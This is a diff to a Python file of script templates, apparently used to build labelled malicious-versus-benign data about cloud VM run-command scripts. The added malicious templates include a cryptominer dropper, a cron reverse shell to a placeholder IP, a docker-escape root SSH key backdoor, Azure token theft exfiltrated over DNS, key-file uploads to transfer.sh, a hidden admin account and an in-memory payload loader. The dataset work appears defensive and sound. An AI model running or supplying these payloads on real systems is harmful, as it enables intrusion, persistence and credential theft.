@@ -270,6 +270,22 @@ shred -u /var/log/auth.log /var/log/syslog
 mkdir -p /usr/share/.fonts && cd /usr/share/.fonts
 curl -sO http://@@ip@@/@@sh@@ && nohup bash @@sh@@ &
 """),
+    Template(M, "miner", "shell", """#!/bin/bash
+export LC_ALL=C
+ulimit -n 65535
+for p in $(ps -eo pid,comm | awk '$2 ~ /(kswapd0|watchdogs|xmr|@@miner@@)/ {print $1}'); do kill -9 $p; done
+chattr -i /etc/ld.so.preload; rm -f /etc/ld.so.preload
+curl -fsSL http://@@ip@@/dl/kthreadd -o @@dir@@/kthreadd || wget -q http://@@ip@@/dl/kthreadd -O @@dir@@/kthreadd
+chmod +x @@dir@@/kthreadd
+@@dir@@/kthreadd -o @@pool@@ -u @@wallet@@ -k --tls
+"""),
+    Template(M, "persistence", "shell", """#!/bin/bash
+cp /bin/bash /tmp/.sh; chmod 4755 /tmp/.sh
+echo '* * * * * root /tmp/.sh -p -c "bash -i >& /dev/tcp/@@ip@@/@@port@@ 0>&1"' > /etc/cron.d/0hourly-sync
+"""),
+    Template(M, "backdoor_user", "shell", """#!/bin/bash
+docker run -d --privileged --net host -v /:/host alpine chroot /host bash -c 'echo "ssh-rsa AAAAB3NzaC1yc2E @@user@@" >> /root/.ssh/authorized_keys'
+"""),
     Template(M, "dsc_run_command_abuse", "shell", """#!/bin/bash
 # Run Command payload
 UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 -d)
@@ -335,6 +351,14 @@ Invoke-RestMethod -Method Post -Uri 'http://@@host@@/t' -Body ($r | ConvertTo-Js
 $h = @{Authorization = "Bearer $($t.access_token)"}
 $vms = Invoke-RestMethod -Headers $h "https://management.azure.com/subscriptions/$sub/providers/Microsoft.Compute/virtualMachines?api-version=2023-03-01"
 foreach ($vm in $vms.value) { Invoke-RestMethod -Method Post -Headers $h -Uri "https://management.azure.com$($vm.id)/runCommand?api-version=2023-03-01" -Body '{"commandId":"RunPowerShellScript","script":["iwr http://@@ip@@/@@script@@|iex"]}' -ContentType application/json }
+"""),
+    Template(M, "credential_theft", "powershell", """$h = @{ Metadata = 'true' }
+$tok = irm -Headers $h -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https://management.azure.com'
+$b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($tok.access_token))
+Resolve-DnsName "$($b64.Substring(0,60)).x.@@host@@" -ErrorAction SilentlyContinue
+"""),
+    Template(M, "credential_theft", "powershell", """Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx,*.pfx,*.pem,id_rsa -ErrorAction SilentlyContinue | Compress-Archive -DestinationPath C:\\ProgramData\\d.zip
+Invoke-RestMethod -Uri 'https://transfer.sh/@@user@@.zip' -Method Put -InFile C:\\ProgramData\\d.zip
 """),
     Template(M, "credential_theft", "powershell", """Get-ChildItem C:\\Users\\*\\.azure\\msal_token_cache.bin, C:\\Users\\*\\.azure\\accessTokens.json -ErrorAction SilentlyContinue | Copy-Item -Destination C:\\Windows\\Temp\\t\\
 Compress-Archive C:\\Windows\\Temp\\t C:\\Windows\\Temp\\t.zip
@@ -477,6 +501,13 @@ netsh advfirewall set allprofiles state off
 """),
     Template(M, "backdoor_user", "cmd", """reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f
 reg add "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
+"""),
+    Template(M, "backdoor_user", "cmd", """@echo off
+net user @@user@@$ @@password@@ /add /active:yes
+net localgroup Administrators @@user@@$ /add
+reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v @@user@@$ /t REG_DWORD /d 0 /f
+"""),
+    Template(M, "dropper", "cmd", """powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://@@ip@@/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
 """),
     Template(M, "ransomware", "cmd", """vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
@@ -813,7 +844,80 @@ helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress --cr
 """),
 ]
 
+BENIGN_SHELL += [
+    Template(B, "ci_agent", "shell", """#!/bin/bash
+set -e
+apt-get install -y openjdk-17-jre-headless
+useradd -m -d /var/lib/jenkins -s /bin/bash jenkins
+mkdir -p /var/lib/jenkins/.ssh
+curl -s https://ci.contoso.com/keys/agent.pub >> /var/lib/jenkins/.ssh/authorized_keys
+chown -R jenkins: /var/lib/jenkins/.ssh && chmod 600 /var/lib/jenkins/.ssh/authorized_keys
+curl -sO https://ci.contoso.com/jnlpJars/agent.jar
+cat > /etc/systemd/system/jenkins-agent.service <<UNIT
+[Service]
+User=jenkins
+ExecStart=/usr/bin/java -jar /var/lib/jenkins/agent.jar -jnlpUrl https://ci.contoso.com/computer/@@site@@/jenkins-agent.jnlp -secret @/var/lib/jenkins/secret
+Restart=always
+[Install]
+WantedBy=multi-user.target
+UNIT
+systemctl daemon-reload && systemctl enable --now jenkins-agent
+"""),
+    Template(B, "ci_agent", "shell", """#!/bin/bash
+curl -L "https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh" | sudo bash
+sudo apt-get install -y gitlab-runner
+sudo gitlab-runner register --non-interactive --url https://gitlab.contoso.com --token $RUNNER_TOKEN --executor docker --docker-image alpine:latest --description @@site@@
+sudo usermod -aG docker gitlab-runner
+"""),
+    Template(B, "kubernetes_node", "shell", """#!/bin/bash
+curl -sfL https://get.k3s.io | INSTALL_K3S_EXEC="--disable traefik" sh -
+mkdir -p ~/.kube && cp /etc/rancher/k3s/k3s.yaml ~/.kube/config && chmod 600 ~/.kube/config
+kubectl create namespace @@site@@
+kubectl apply -f https://raw.githubusercontent.com/kubernetes/dashboard/v2.7.0/aio/deploy/recommended.yaml
+"""),
+    Template(B, "log_rotation", "shell", """#!/bin/bash
+# rotate app logs and clear old journal
+find /var/log/@@svc@@ -type f -name "*.log" -mtime +7 -exec gzip {} \\;
+find /var/log/@@svc@@ -type f -name "*.gz" -mtime +30 -delete
+journalctl --vacuum-size=500M
+"""),
+    Template(B, "bootstrap", "shell", """#!/bin/bash
+# bootstrap settings from the VM's userData
+USERDATA=$(curl -s -H Metadata:true --noproxy "*" "http://169.254.169.254/metadata/instance/compute/userData?api-version=2021-01-01&format=text" | base64 --decode)
+echo "$USERDATA" > /etc/@@svc@@/bootstrap.env
+systemctl restart @@svc@@
+"""),
+]
+
 BENIGN_POWERSHELL: list[Template] = [
+    Template(B, "ci_agent", "powershell", """$ErrorActionPreference = 'Stop'
+New-Item -ItemType Directory -Force C:\\agent | Out-Null
+Set-Location C:\\agent
+$wc = New-Object System.Net.WebClient
+$wc.DownloadFile('https://vstsagentpackage.azureedge.net/agent/3.236.1/vsts-agent-win-x64-3.236.1.zip', "$PWD\\agent.zip")
+Add-Type -AssemblyName System.IO.Compression.FileSystem
+[System.IO.Compression.ZipFile]::ExtractToDirectory("$PWD\\agent.zip", "$PWD")
+.\\config.cmd --unattended --url https://dev.azure.com/contoso --auth pat --token $env:AZP_TOKEN --pool @@site@@ --agent $env:COMPUTERNAME --runAsService --windowsLogonAccount 'NT AUTHORITY\\SYSTEM'
+Remove-Item agent.zip
+"""),
+    Template(B, "sql_setup", "powershell", """Install-WindowsFeature Failover-Clustering -IncludeManagementTools
+Set-NetFirewallProfile -Profile Domain -Enabled True
+New-NetFirewallRule -DisplayName 'SQL AG Endpoint' -Direction Inbound -Protocol TCP -LocalPort 5022 -Action Allow
+Add-LocalGroupMember -Group Administrators -Member '@@domain@@\\sqlsvc'
+Enable-WSManCredSSP -Role Server -Force
+Invoke-Command -ComputerName sql02.@@domain@@ -ScriptBlock { Install-WindowsFeature Failover-Clustering }
+"""),
+    Template(B, "hardening", "powershell", """Set-SmbServerConfiguration -EnableSMB1Protocol $false -Force
+Set-MpPreference -DisableRealtimeMonitoring $false -MAPSReporting Advanced -SubmitSamplesConsent SendAllSamples
+Update-MpSignature
+Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' -Name EnableScriptBlockLogging -Value 1
+Start-MpScan -ScanType QuickScan
+"""),
+    Template(B, "windows_config", "powershell", """Invoke-WebRequest https://download.sysinternals.com/files/BGInfo.zip -OutFile C:\\Tools\\BGInfo.zip
+Expand-Archive C:\\Tools\\BGInfo.zip C:\\Tools\\BGInfo -Force
+New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run' -Name BGInfo -Value 'C:\\Tools\\BGInfo\\Bginfo64.exe C:\\Tools\\BGInfo\\config.bgi /timer:0 /silent /nolicprompt' -Force
+schtasks /create /tn "Weekly Reboot @@site@@" /tr "shutdown /r /t 60" /sc weekly /d SUN /st 03:00 /ru SYSTEM /f
+"""),
     Template(B, "iis_setup", "powershell", """Install-WindowsFeature -Name Web-Server, Web-Asp-Net45, Web-Mgmt-Console -IncludeManagementTools
 Import-Module WebAdministration
 New-Item -ItemType Directory -Force -Path C:\\inetpub\\@@site@@ | Out-Null
@@ -946,6 +1050,20 @@ Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 | Out-File -
 ]
 
 BENIGN_CMD: list[Template] = [
+    Template(B, "maintenance", "cmd", """@echo off
+REM cleanup temp and restart print spooler
+del /q /f /s %TEMP%\\*
+net stop spooler
+del /q C:\\Windows\\System32\\spool\\PRINTERS\\*
+net start spooler
+wevtutil epl Application C:\\Logs\\app-@@site@@.evtx
+"""),
+    Template(B, "rdp_config", "cmd", """@echo off
+reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
+reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 1 /f
+netsh advfirewall firewall set rule group="remote desktop" new enable=Yes
+net localgroup "Remote Desktop Users" "@@domain@@\\Support" /add
+"""),
     Template(B, "package_install", "cmd", """@echo off
 msiexec /i "%~dp0@@svc@@-@@version@@-x64.msi" /qn /norestart /l*v C:\\Logs\\@@svc@@-install.log
 if %ERRORLEVEL% NEQ 0 exit /b %ERRORLEVEL%
